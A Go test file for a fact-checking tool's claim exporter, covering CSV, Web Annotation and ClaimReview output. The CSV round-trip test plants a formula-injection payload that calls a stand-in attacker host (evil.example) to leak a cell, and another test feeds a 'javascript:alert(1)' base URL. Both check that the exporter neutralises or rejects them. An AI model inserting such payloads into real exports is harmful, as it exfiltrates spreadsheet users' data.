package review_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"vetted/review"
	"vetted/store"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/golden")

const (
	testBase = "https://vetted.example.org"
	testOrg  = "Example Fact Desk"
)

// exportClaims writes every claim of db in format.
func exportClaims(t *testing.T, db *store.DB, format string) []byte {
	t.Helper()
	ctx := context.Background()
	x, err := review.NewClaimExport(ctx, db, testBase, testOrg)
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	cw, err := review.NewClaimWriter(&buf, format, x)
	if err != nil {
		t.Fatal(err)
	}
	if err := review.ExportClaims(ctx, db, review.ClaimFilter{}, cw); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", "golden", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./review -run Golden -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file; if the change is meant, run go test ./review -run Golden -update and review the diff.\ngot:\n%.2000s", path, got)
	}
}

func TestClaimExportGolden(t *testing.T) {
	db, _ := MustDemoDB(t)
	for format, name := range map[string]string{
		"csv":         "claims.csv",
		"annotation":  "claims.annotations.jsonld",
		"claimreview": "claims.claimreview.jsonld",
	} {
		t.Run(format, func(t *testing.T) {
			golden(t, name, exportClaims(t, db, format))
		})
	}
}

// allClaims reads every claim in full.
func allClaims(t *testing.T, db *store.DB) []review.Claim {
	t.Helper()
	var cs []review.Claim
	if err := db.EachClaim(context.Background(), review.ClaimFilter{}, func(c review.Claim) error {
		cs = append(cs, c)
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	return cs
}

func TestClaimCSV(t *testing.T) {
	t.Run("RoundTrip", func(t *testing.T) {
		db, _ := MustDemoDB(t)
		ctx := context.Background()
		// A claim whose statement is a formula, as a hostile reviewer would
		// write it.
		if _, err := db.CreateClaim(ctx, mustUser(t, db, "rey"), review.NewClaim{Report: "azerbaijan",
			Quote: "Although arms trafficking is reportedly extremely", Statement: `=HYPERLINK("http://evil.example/?"&A1,"x")`,
			Hedge: "@SUM(1)", Confidence: review.ConfidenceLow, ConfirmDuplicate: true}); err != nil {
			t.Fatal(err)
		}
		claims := allClaims(t, db)
		rows, err := csv.NewReader(bytes.NewReader(exportClaims(t, db, "csv"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if got, want := len(rows), len(claims)+1; got != want {
			t.Fatalf("rows: got %d, want %d", got, want)
		}
		if got, want := strings.Join(rows[0], ","), strings.Join(review.ClaimCSVHeader, ","); got != want {
			t.Errorf("header: got %s, want %s", got, want)
		}
		formulas := 0
		for i, c := range claims {
			want := review.ClaimCSVRow(c)
			for j, cell := range rows[i+1] {
				if w := review.CSVCell(want[j]); cell != w {
					t.Errorf("claim %d %s: got %q, want %q", c.ID, review.ClaimCSVHeader[j], cell, w)
				}
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("claim %d %s: cell %q is live", c.ID, review.ClaimCSVHeader[j], cell)
				}
				if strings.HasPrefix(want[j], "=") || strings.HasPrefix(want[j], "@") {
					formulas++
				}
			}
		}
		if formulas != 2 {
			t.Errorf("the hostile claim's two formula cells were not exported: %d", formulas)
		}
	})
	t.Run("Cells", func(t *testing.T) {
		c := review.Claim{ID: 7, Report: "r", UpdatedAt: time.Date(2026, 3, 1, 12, 30, 0, 123, time.FixedZone("X", 3600)),
			Latest: review.Revision{Statement: "+1 or -1", Confidence: review.ConfidenceHigh, State: review.StateApproved,
				Evidence: []review.Evidence{
					{Source: review.Source{Title: "A, \"quoted\"", Reliability: "B"}, Credibility: 2, Stance: review.StanceSupports},
					{Source: review.Source{Title: "B", Reliability: "E"}, Credibility: 5, Stance: review.StanceContradicts},
				}},
			Appearances: []review.Appearance{{Edition: "2021", Anchor: review.Anchor{Exact: "old"}},
				{Edition: "2023", Match: review.OutcomeMissing}},
			AllFlags: []review.Flag{{Kind: review.FlagOutdated, Reason: "Not found in edition 2023."},
				{Kind: review.FlagOther, Reason: "resolved", ResolvedAt: time.Unix(1, 0)},
				{Kind: review.FlagDisputed, Reason: "\tTab"}},
		}
		got := review.ClaimCSVRow(c)
		want := []string{"7", "r", "2023", "", "+1 or -1", "", "high", "", "approved",
			"outdated: Not found in edition 2023.; disputed: \tTab", `A, "quoted" (B2); B (E5, contradicts)`, "2026-03-01T11:30:00Z"}
		if strings.Join(got, "|") != strings.Join(want, "|") {
			t.Errorf("got  %q\nwant %q", got, want)
		}
		var buf bytes.Buffer
		cw, err := review.NewClaimCSVWriter(&buf)
		if err != nil {
			t.Fatal(err)
		}
		if err := cw.Write(c); err != nil {
			t.Fatal(err)
		}
		if err := cw.Close(); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if got := rows[1][4]; got != "'+1 or -1" {
			t.Errorf("statement cell: got %q, want it neutralised", got)
		}
	})
}

// secondEdition imports a 2023 edition derived from the demo's: text
// before the claims that is not ASCII (so characters and bytes differ), one
// quote reworded, one dropped.
func secondEdition(t *testing.T, db *store.DB) {
	t.Helper()
	text := string(mustRead(t, "../testdata/azerbaijan-2021.txt"))
	for old, new := range map[string]string{
		"PEOPLE\n": "PEOPLE\n\nÜbersicht — ✓ résumé №1 “quoted” 🙂.\n\n",
		"Human trafficking in Azerbaijan generally takes the form":          "Human trafficking in Azerbaijan mostly takes the form",
		"Filipino \nwomen are reportedly vulnerable to domestic servitude.": "",
	} {
		if !strings.Contains(text, old) {
			t.Fatalf("the demo text lacks %q", old)
		}
		text = strings.Replace(text, old, new, 1)
	}
	res, err := db.ImportEdition(context.Background(), mustUser(t, db, "eda"), review.NewEdition{Report: "azerbaijan",
		Label: "2023", Published: "2023-09-28", Original: []byte(text)})
	if err != nil {
		t.Fatal(err)
	}
	if res.Counts[review.OutcomeChanged] == 0 || res.Counts[review.OutcomeMissing] == 0 {
		t.Fatalf("the 2023 edition should change one claim and lose another: %v", res.Counts)
	}
}

func TestAnnotationExport(t *testing.T) {
	db, _ := MustDemoDB(t)
	secondEdition(t, db)
	ctx := context.Background()
	texts := map[string][]rune{}
	for _, label := range []string{"2021", "2023"} {
		ed, err := db.FindEdition(ctx, "azerbaijan", label)
		if err != nil {
			t.Fatal(err)
		}
		texts[testBase+"/reports/azerbaijan/editions/"+label+"/text"] = []rune(ed.Doc.Text)
	}
	// A draft edition carries the claims too, but a draft may be replaced:
	// the export leaves it out.
	if _, err := db.ImportEdition(ctx, mustUser(t, db, "eda"), review.NewEdition{Report: "azerbaijan", Label: "2025-draft",
		Published: "2025-09-28", Original: mustRead(t, "../testdata/azerbaijan-2021.txt"), Draft: true}); err != nil {
		t.Fatal(err)
	}
	wantItems := map[string]bool{}
	inDraft := 0
	for _, c := range allClaims(t, db) {
		for _, a := range c.Appearances {
			if a.Edition == "2025-draft" {
				inDraft++
			} else if a.Match != review.OutcomeMissing {
				wantItems[testBase+"/claims/"+itoa(c.ID)+"#edition-"+a.Edition] = true
			}
		}
	}
	if inDraft == 0 {
		t.Fatal("no claim was carried into the draft edition")
	}

	var doc map[string]any
	if err := json.Unmarshal(exportClaims(t, db, "annotation"), &doc); err != nil {
		t.Fatal(err)
	}
	if got := doc["@context"]; got != "http://www.w3.org/ns/anno.jsonld" {
		t.Errorf("@context: got %v", got)
	}
	if got := doc["type"]; got != "AnnotationCollection" {
		t.Errorf("type: got %v", got)
	}
	if id, _ := doc["id"].(string); !strings.HasPrefix(id, testBase+"/") {
		t.Errorf("collection id: got %q", id)
	}
	page, _ := doc["first"].(map[string]any)
	if page["type"] != "AnnotationPage" || page["id"] == nil {
		t.Fatalf("first: got %v", page)
	}
	// The Web Annotation Protocol's SHOULDs for paging (Annotation Pages): the
	// collection names its last page, the page the collection.
	if doc["last"] != page["id"] {
		t.Errorf("last: got %v, want the one page %v", doc["last"], page["id"])
	}
	if page["partOf"] != doc["id"] {
		t.Errorf("partOf: got %v, want the collection %v", page["partOf"], doc["id"])
	}
	items, _ := page["items"].([]any)
	if got := doc["total"]; got != float64(len(items)) {
		t.Errorf("total: got %v, items %d", got, len(items))
	}
	if len(items) != len(wantItems) {
		t.Errorf("annotations: got %d, want one per appearance not missing: %d", len(items), len(wantItems))
	}
	editions := map[string]int{}
	for _, it := range items {
		a := it.(map[string]any)
		id, _ := a["id"].(string)
		if !wantItems[id] {
			t.Errorf("unexpected or repeated annotation id %q", id)
		}
		delete(wantItems, id)
		if a["type"] != "Annotation" {
			t.Errorf("%s: type %v", id, a["type"])
		}
		if m := a["motivation"]; m != "assessing" && m != "commenting" {
			t.Errorf("%s: motivation %v", id, m)
		}
		for _, k := range []string{"created", "modified"} {
			s, _ := a[k].(string)
			if _, err := time.Parse(time.RFC3339, s); err != nil || !strings.HasSuffix(s, "Z") {
				t.Errorf("%s: %s %q is not an xsd:dateTime in UTC", id, k, s)
			}
		}
		if c, _ := a["creator"].(map[string]any); c["name"] != testOrg {
			t.Errorf("%s: creator %v", id, a["creator"])
		}
		bodies, _ := a["body"].([]any)
		purposes := map[string]string{}
		for _, b := range bodies {
			b := b.(map[string]any)
			if b["type"] != "TextualBody" {
				t.Errorf("%s: body type %v", id, b["type"])
			}
			v, _ := b["value"].(string)
			if v == "" {
				t.Errorf("%s: empty body value", id)
			}
			p, _ := b["purpose"].(string)
			purposes[p] += v + " "
		}
		if purposes["describing"] == "" || !strings.Contains(purposes["tagging"], "confidence:") || !strings.Contains(purposes["tagging"], "state:") {
			t.Errorf("%s: bodies %v", id, purposes)
		}
		target, _ := a["target"].(map[string]any)
		src, _ := target["source"].(string)
		text, ok := texts[src]
		if !ok {
			t.Fatalf("%s: target source %q is not an edition", id, src)
		}
		editions[src]++
		sels, _ := target["selector"].([]any)
		var quote, pos map[string]any
		for _, s := range sels {
			s := s.(map[string]any)
			switch s["type"] {
			case "TextQuoteSelector":
				quote = s
			case "TextPositionSelector":
				pos = s
			default:
				t.Errorf("%s: selector type %v", id, s["type"])
			}
		}
		if quote == nil || pos == nil {
			t.Fatalf("%s: selectors %v", id, sels)
		}
		start, end := int(pos["start"].(float64)), int(pos["end"].(float64))
		if !(0 <= start && start < end && end <= len(text)) {
			t.Fatalf("%s: position [%d,%d) outside the text's %d characters", id, start, end, len(text))
		}
		exact, _ := quote["exact"].(string)
		if got := string(text[start:end]); got != exact {
			t.Errorf("%s: characters [%d,%d) are %q, exact is %q", id, start, end, got, exact)
		}
		prefix, _ := quote["prefix"].(string)
		suffix, _ := quote["suffix"].(string)
		if !strings.HasSuffix(string(text[:start]), prefix) || !strings.HasPrefix(string(text[end:]), suffix) {
			t.Errorf("%s: prefix %q or suffix %q does not surround the quote", id, prefix, suffix)
		}
	}
	for id := range wantItems {
		t.Errorf("no annotation %s", id)
	}
	if len(editions) != 2 {
		t.Errorf("annotations on editions %v, want both", editions)
	}
}

func itoa(n int64) string { b, _ := json.Marshal(n); return string(b) }

func TestClaimReviewExport(t *testing.T) {
	db, _ := MustDemoDB(t)
	secondEdition(t, db)
	// A draft edition is left out of the appearances: it may be replaced.
	if _, err := db.ImportEdition(context.Background(), mustUser(t, db, "eda"), review.NewEdition{Report: "azerbaijan", Label: "2025-draft",
		Published: "2025-09-28", Original: mustRead(t, "../testdata/azerbaijan-2021.txt"), Draft: true}); err != nil {
		t.Fatal(err)
	}
	approved := map[string]review.Claim{}
	for _, c := range allClaims(t, db) {
		if c.CurrentID != 0 {
			approved[testBase+"/claims/"+itoa(c.ID)] = c
		}
	}
	if len(approved) == 0 {
		t.Fatal("the demo has no approved claim")
	}
	var docs []map[string]any
	if err := json.Unmarshal(exportClaims(t, db, "claimreview"), &docs); err != nil {
		t.Fatal(err)
	}
	if len(docs) != len(approved) {
		t.Errorf("reviews: got %d, want one per approved claim: %d", len(docs), len(approved))
	}
	names := map[float64]string{1: "Unverified", 2: "Low confidence", 3: "Moderate confidence", 4: "High confidence"}
	for _, d := range docs {
		url, _ := d["url"].(string)
		c, ok := approved[url]
		if !ok {
			t.Fatalf("review of %q, which is not an approved claim", url)
		}
		if d["@context"] != "https://schema.org" || d["@type"] != "ClaimReview" {
			t.Errorf("%s: @context %v @type %v", url, d["@context"], d["@type"])
		}
		if got := d["claimReviewed"]; got != c.Current.Statement || got == "" {
			t.Errorf("%s: claimReviewed %v, want the approved statement %q", url, got, c.Current.Statement)
		}
		r, _ := d["reviewRating"].(map[string]any)
		v, _ := r["ratingValue"].(float64)
		worst, _ := r["worstRating"].(float64)
		best, _ := r["bestRating"].(float64)
		if r["@type"] != "Rating" || worst != 1 || best != 4 || v < worst || v > best {
			t.Errorf("%s: reviewRating %v", url, r)
		}
		// Rating.name is schema.org's recommended textual rating;
		// alternateName the one Google's fact-check markup reads.
		if want, _ := review.Rating(c.Current.Confidence); float64(want) != v || r["alternateName"] != names[v] || r["name"] != names[v] {
			t.Errorf("%s: rating %v for confidence %s", url, r, c.Current.Confidence)
		}
		item, _ := d["itemReviewed"].(map[string]any)
		if item["@type"] != "Claim" {
			t.Errorf("%s: itemReviewed %v", url, item)
		}
		apps, _ := item["appearance"].([]any)
		if len(apps) == 0 {
			t.Errorf("%s: no appearance", url)
		}
		for _, a := range apps {
			a := a.(map[string]any)
			u, _ := a["url"].(string)
			if a["@type"] != "CreativeWork" || !strings.HasPrefix(u, testBase+"/reports/azerbaijan/editions/") || a["name"] == "" {
				t.Errorf("%s: appearance %v", url, a)
			}
			if _, err := time.Parse(time.DateOnly, a["datePublished"].(string)); err != nil {
				t.Errorf("%s: appearance date: %v", url, err)
			}
			if strings.Contains(u, "draft") {
				t.Errorf("%s: appears in the draft edition %s", url, u)
			}
		}
		// The claim was first published with the first edition it stands in.
		if first, _ := apps[0].(map[string]any); item["datePublished"] != first["datePublished"] || item["datePublished"] == "" {
			t.Errorf("%s: itemReviewed.datePublished %v, want the first appearance's %v", url, item["datePublished"], first["datePublished"])
		}
		if au, _ := item["author"].(map[string]any); au["@type"] != "Organization" || au["name"] != "Global Initiative Against Transnational Organized Crime" {
			t.Errorf("%s: itemReviewed.author %v", url, item["author"])
		}
		if au, _ := d["author"].(map[string]any); au["@type"] != "Organization" || au["name"] != testOrg || au["url"] != testBase {
			t.Errorf("%s: author %v", url, d["author"])
		}
		if got, want := d["datePublished"], c.Current.DecidedAt.UTC().Format(time.DateOnly); got != want {
			t.Errorf("%s: datePublished %v, want %s", url, got, want)
		}
	}
}

func TestRating(t *testing.T) {
	for _, tc := range []struct {
		c     review.Confidence
		value int
		name  string
	}{
		{review.ConfidenceUnverified, 1, "Unverified"},
		{review.ConfidenceLow, 2, "Low confidence"},
		{review.ConfidenceModerate, 3, "Moderate confidence"},
		{review.ConfidenceHigh, 4, "High confidence"},
		{"certain", 0, ""},
	} {
		if v, n := review.Rating(tc.c); v != tc.value || n != tc.name {
			t.Errorf("Rating(%q) = %d, %q; want %d, %q", tc.c, v, n, tc.value, tc.name)
		}
	}
}

func TestCharOffsets(t *testing.T) {
	text := "é✓ ab 🙂cd"
	t.Run("OK", func(t *testing.T) {
		i := strings.Index(text, "ab 🙂c")
		s, e, err := review.CharOffsets(text, review.Anchor{Exact: "ab 🙂c", Start: i, End: i + len("ab 🙂c")})
		if err != nil || s != 3 || e != 8 {
			t.Errorf("got %d, %d, %v; want 3, 8", s, e, err)
		}
	})
	for name, a := range map[string]review.Anchor{
		"Mismatch":  {Exact: "ab", Start: 0, End: 2},
		"Negative":  {Exact: "é", Start: -1, End: 1},
		"PastEnd":   {Exact: "cd", Start: len(text) - 2, End: len(text) + 1},
		"Empty":     {Exact: "", Start: 2, End: 2},
		"Backwards": {Exact: "", Start: 3, End: 2},
	} {
		t.Run(name, func(t *testing.T) {
			if _, _, err := review.CharOffsets(text, a); err == nil {
				t.Error("want an error")
			}
		})
	}
}

func TestClaimWriterOptions(t *testing.T) {
	for name, tc := range map[string]struct {
		format string
		x      review.ClaimExport
		field  string
	}{
		"NoBase":      {"annotation", review.ClaimExport{Text: func(string, string) (string, error) { return "", nil }}, "base_url"},
		"Relative":    {"claimreview", review.ClaimExport{BaseURL: "/vetted", Org: "O"}, "base_url"},
		"JavaScript":  {"annotation", review.ClaimExport{BaseURL: "javascript:alert(1)"}, "base_url"},
		"Query":       {"claimreview", review.ClaimExport{BaseURL: "https://x.example/?a=1", Org: "O"}, "base_url"},
		"NoOrg":       {"claimreview", review.ClaimExport{BaseURL: "https://x.example"}, "org"},
		"NoFormat":    {"rdf", review.ClaimExport{}, "format"},
		"BlankOrg":    {"claimreview", review.ClaimExport{BaseURL: "https://x.example", Org: "  "}, "org"},
		"UserInfoURL": {"annotation", review.ClaimExport{BaseURL: "https://u:p@x.example"}, "base_url"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := review.NewClaimWriter(&bytes.Buffer{}, tc.format, tc.x)
			if review.ErrorCode(err) != review.EINVALID || review.ErrorField(err) != tc.field {
				t.Errorf("got %v, want EINVALID on %s", err, tc.field)
			}
		})
	}
	t.Run("Empty", func(t *testing.T) {
		x := review.ClaimExport{BaseURL: "https://x.example/", Org: "O", Text: func(string, string) (string, error) { return "", nil }}
		for format, want := range map[string]string{
			"claimreview": "[]\n",
			"annotation":  `"items": []`,
		} {
			var buf bytes.Buffer
			cw, err := review.NewClaimWriter(&buf, format, x)
			if err != nil {
				t.Fatal(err)
			}
			if err := cw.Close(); err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(buf.String(), want) || !json.Valid(buf.Bytes()) {
				t.Errorf("%s: got %s", format, buf.String())
			}
		}
	})
}
